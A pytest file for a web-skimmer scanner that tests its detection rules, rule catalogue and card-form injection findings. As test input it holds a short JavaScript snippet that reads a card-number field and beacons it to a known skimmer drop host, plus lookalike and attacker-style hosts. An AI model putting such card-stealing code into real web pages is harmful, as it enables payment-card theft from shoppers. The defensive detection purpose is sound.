"""The shipped rules: metadata, coverage, and each rule's annotated test file; the pipeline's
own rules: their catalogue, and the code that emits them agreeing with it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from skimscan.analyze.analyzer import unparsed_finding
from skimscan.analyze.card_forms import injected_card_forms
from skimscan.analyze.catalogue import PIPELINE_RULE_TABLE, PIPELINE_RULES, STAGES, all_rules
from skimscan.analyze.rules import load_rules
from skimscan.analyze.ruletest import check_rules
from skimscan.models import Finding, HostClass, InstrumentEvent, RequestRecord, Severity
from skimscan.pipeline import Engine, analyze_source
from skimscan.policy.hosts import HostClassifier
from skimscan.policy.policy import PIPELINE_RULE_IDS, known_rule_ids
from skimscan.scanner import request_findings

RULES = load_rules()


def test_at_least_thirty_rules_in_categories() -> None:
    assert len(RULES) >= 30
    categories = {r.category for r in RULES}
    expected = {"exfiltration", "collection", "obfuscation", "evasion", "injection", "ioc"}
    assert expected <= categories


@pytest.mark.parametrize("rule", list(RULES), ids=lambda r: r.id)
def test_rule_metadata(rule) -> None:  # type: ignore[no-untyped-def]
    assert rule.title and len(rule.description) > 40
    assert rule.references, "every rule cites a reference"
    assert rule.mitre and all(m.startswith("T") for m in rule.mitre)
    assert rule.pci


@pytest.mark.parametrize("rule", list(RULES), ids=lambda r: r.id)
def test_rule_annotations(rule, engine: Engine) -> None:  # type: ignore[no-untyped-def]
    [result] = check_rules(
        RULES, lambda code: list(analyze_source(code, engine=engine).findings), {rule.id}
    )
    assert result.ok, "\n".join(result.failures)


# --- the pipeline's own rules: one catalogue, and the code that emits them agrees with it ------


def test_the_pipeline_catalogue_describes_each_rule_once() -> None:
    assert len(PIPELINE_RULE_TABLE) == len(PIPELINE_RULES)
    for rule in PIPELINE_RULE_TABLE:
        assert rule.title and len(rule.description) > 40 and rule.category, rule.id
        assert rule.stages and set(rule.stages) <= set(STAGES), rule.id
        severities = [(v.severity, v.confidence) for v in rule.variants]
        assert severities == sorted(severities, reverse=True), "variants go worst first"
        assert all(v.when for v in rule.variants)
        assert not any(":" in t for t in rule.tags), "attack:/pci-dss: tags are mitre/pci"
        assert all(m.startswith("T") for m in rule.mitre)
        assert rule.id not in RULES.by_id, "a pipeline rule has no rule file"


def test_the_policy_accepts_exactly_the_catalogued_ids() -> None:
    assert frozenset(PIPELINE_RULES) == PIPELINE_RULE_IDS
    assert known_rule_ids(RULES.by_id) == frozenset(RULES.by_id) | PIPELINE_RULE_IDS


def _matches_catalogue(finding: Finding) -> None:
    rule = PIPELINE_RULES[finding.rule]
    assert finding.title == rule.title
    assert (finding.severity, finding.confidence) in {(v.severity, v.confidence)
                                                      for v in rule.variants}
    assert set(finding.tags) == set(rule.finding_tags)


def test_unparsed_script_findings_match_the_catalogue() -> None:
    _matches_catalogue(unparsed_finding("Unexpected token", "s1"))


def test_runtime_findings_match_the_catalogue() -> None:
    sent = [RequestRecord(url=f"https://{host}/c", method="POST", host=host, script="s1",
                          host_class=host_class, body=b"n=1")
            for host, host_class in (("slripe.com", HostClass.LOOKALIKE),
                                     ("drop.example", HostClass.UNKNOWN))]
    findings = request_findings(sent, set())
    assert [f.rule for f in findings] == ["runtime-data-to-lookalike-host",
                                          "runtime-data-to-unknown-host"]
    for f in findings:
        _matches_catalogue(f)


@pytest.mark.parametrize("typed", [True, False])
def test_injected_card_form_findings_match_the_catalogue(typed: bool) -> None:
    event = InstrumentEvent("card-form", {"field": "#cc", "via": "innerHTML"}, script="s9")
    classify = HostClassifier("https://shop.example/checkout").classify
    [finding] = injected_card_forms([event], {"s9": "https://evil.example/kit.js"},
                                    classify, ["#cc"] if typed else [],
                                    lambda script: str(script))
    _matches_catalogue(finding)
    assert finding.severity is (Severity.HIGH if typed else Severity.MEDIUM)


def test_all_rules_lists_both_kinds_sorted_and_a_rule_file_wins() -> None:
    rules = all_rules(RULES)
    assert [r.id for r in rules] == sorted({*RULES.by_id, *PIPELINE_RULES})
    assert {r.source for r in rules} == {"yaml", "pipeline"}
    clash = replace(next(iter(RULES)), id="unparsed-script")
    [only] = [r for r in all_rules([clash]) if r.id == "unparsed-script"]
    assert only.source == "yaml"


def test_ioc_hosts_are_classified_known_bad(analyze) -> None:  # type: ignore[no-untyped-def]
    """docs/policy.md: known-bad is classified first; the rules' IOC hosts are known-bad too,
    so a documented drop host is never reported as `unknown`."""
    report = analyze('var n = document.getElementById("cc_number").value;\n'
                     'navigator.sendBeacon("https://www.baways.com/c", n);\n')
    hosts = [f for f in report.findings if f.evidence.get("host") == "www.baways.com"]
    assert {f.rule for f in hosts} >= {"known-skimmer-drop-hosts", "card-data-to-untrusted-host"}
    assert {f.evidence["host_class"] for f in hosts} == {"known-bad"}


def test_ioc_hosts_are_read_from_every_ioc_leaf() -> None:
    rules = load_rules()
    assert "baways.com" in rules.ioc_hosts
    assert "shop.example" not in rules.ioc_hosts
